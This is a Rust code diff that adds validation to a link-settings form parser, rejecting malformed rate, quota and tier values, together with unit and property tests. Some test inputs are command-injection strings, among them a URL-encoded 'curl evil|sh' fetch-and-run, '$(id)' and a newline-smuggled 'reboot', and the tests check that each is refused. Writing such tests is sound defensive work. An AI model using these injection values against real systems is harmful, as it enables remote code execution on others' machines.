@@ -2,6 +2,7 @@
 
 use crate::homes::NewHome;
 use braid_control::config::LinkChange;
+use braid_units::{ByteSize, Rate};
 use std::collections::BTreeMap;
 
 /// Fields of a form or a query; the first of a name counts.
@@ -24,20 +25,38 @@ impl Form {
     }
 }
 
-/// What a link's form asks for.
-pub fn link_change(form: &Form) -> Result<LinkChange, ()> {
-    let or_none = |key| {
-        let text = form.get(key)?.trim();
-        Some(if text.is_empty() { "none".to_owned() } else { text.to_owned() })
+/// What a link's form asks for. A form may come from anybody who makes a browser open an address,
+/// and is shown as a command to be typed.
+///
+/// # Errors
+/// Which field is wrong, and how it would be right; a sentence.
+pub fn link_change(form: &Form) -> Result<LinkChange, String> {
+    let quantity = |key, what: &str, is_one: fn(&str) -> bool, example: &str| {
+        let Some(text) = form.get(key) else { return Ok(None) };
+        match text.split_whitespace().collect::<String>() {
+            none if none.is_empty() || none == "none" => Ok(Some("none".to_owned())),
+            text if is_one(&text) => Ok(Some(text)),
+            text => Err(format!("{what} can't be {text:?}: it is such as {example}, or nothing.")),
+        }
     };
+    let tier = form.get("tier").map(|tier| tier.trim().parse());
     Ok(LinkChange {
-        tier: form.get("tier").map(|tier| tier.trim().parse().map_err(|_| ())).transpose()?,
+        tier: tier.transpose().map_err(|_| "The tier must be a number from 0 to 255.")?,
         standby: form.get("role").map(|role| role == "standby"),
-        cap_down: or_none("cap_down"),
-        cap_up: or_none("cap_up"),
-        quota: or_none("quota"),
+        cap_down: quantity("cap_down", "The cap down", is_rate, "20Mbit")?,
+        cap_up: quantity("cap_up", "The cap up", is_rate, "5Mbit")?,
+        quota: quantity("quota", "The quota", is_quota, "20GB/month or 1GB/day")?,
         ..LinkChange::default()
     })
+}
+
+fn is_rate(text: &str) -> bool {
+    text.parse::<Rate>().is_ok()
+}
+
+fn is_quota(text: &str) -> bool {
+    let (bytes, per) = text.split_once('/').unwrap_or((text, "month"));
+    bytes.parse::<ByteSize>().is_ok() && matches!(per, "day" | "month")
 }
 
 impl NewHome {
@@ -53,6 +72,54 @@ impl NewHome {
             valid: text("valid"),
             endpoints: list("endpoints"),
             addresses: list("addresses"),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn change(query: &str) -> Result<LinkChange, String> {
+        link_change(&Form::parse(query.as_bytes()))
+    }
+
+    #[test]
+    fn what_is_no_rate_and_no_quota_is_refused() {
+        let right = change("tier=1&cap_down=20+Mbit&cap_up=&quota=20GB%2Fmonth").unwrap();
+        assert_eq!(right.cap_down.as_deref(), Some("20Mbit"));
+        assert_eq!(right.cap_up.as_deref(), Some("none"));
+        assert_eq!(right.quota.as_deref(), Some("20GB/month"));
+        for (query, what) in [
+            ("cap_down=1%3Bcurl+evil%7Csh", "cap down"),
+            ("cap_up=%24%28id%29", "cap up"),
+            ("cap_up=5bananas", "cap up"),
+            ("quota=1GB%2Fday%0Areboot", "quota"),
+            ("quota=1GB%2Fyear", "quota"),
+            ("tier=256", "tier"),
+        ] {
+            let refused = change(query).unwrap_err();
+            assert!(refused.contains(what), "{refused}");
+        }
+    }
+
+    proptest! {
+        /// It stands in a command that a person copies.
+        #[test]
+        fn what_is_taken_means_nothing_to_a_shell(text in ".{0,20}", number in "[0-9]{1,3}") {
+            for text in [text.clone(), format!("{number}{text}"), format!("{number}Mbit{text}")] {
+                let query = form_urlencoded::Serializer::new(String::new())
+                    .append_pair("cap_down", &text)
+                    .append_pair("quota", &text)
+                    .finish();
+                if let Ok(taken) = change(&query) {
+                    let plain = |text: Option<String>| text.is_none_or(|text| {
+                        text.chars().all(|c| c.is_ascii_alphanumeric() || "./+-".contains(c))
+                    });
+                    prop_assert!(plain(taken.cap_down) && plain(taken.quota));
+                }
+            }
         }
     }
 }
